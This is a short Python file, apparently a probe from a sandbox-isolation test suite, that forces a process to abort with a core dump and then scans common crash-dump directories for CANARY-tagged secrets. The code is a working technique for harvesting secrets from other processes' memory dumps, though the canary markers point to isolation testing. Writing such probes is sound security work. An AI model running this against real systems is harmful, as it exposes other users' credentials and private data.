"""Crash with the core dumped, and read that in the next worker; or read others' dumps.

stopped by: limits, namespaces
proof: a core of a process that reads secrets holds them
"""

import ctypes
import glob
import os
import re
import resource

PLACES = ("core*", "/tmp/core*", "/var/crash/*", "/var/lib/systemd/coredump/*", "/cores/*")


def honest(x):
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
    except (OSError, ValueError):
        pass
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    os.abort()


def loot(places):
    found = []
    for path in (path for pattern in PLACES for path in glob.glob(pattern)):
        try:
            with open(path, "rb") as file:
                found += re.findall(rb"CANARY-\w+-\w{6}", file.read(64 << 20))
        except OSError:
            pass
    return b" ".join(found)
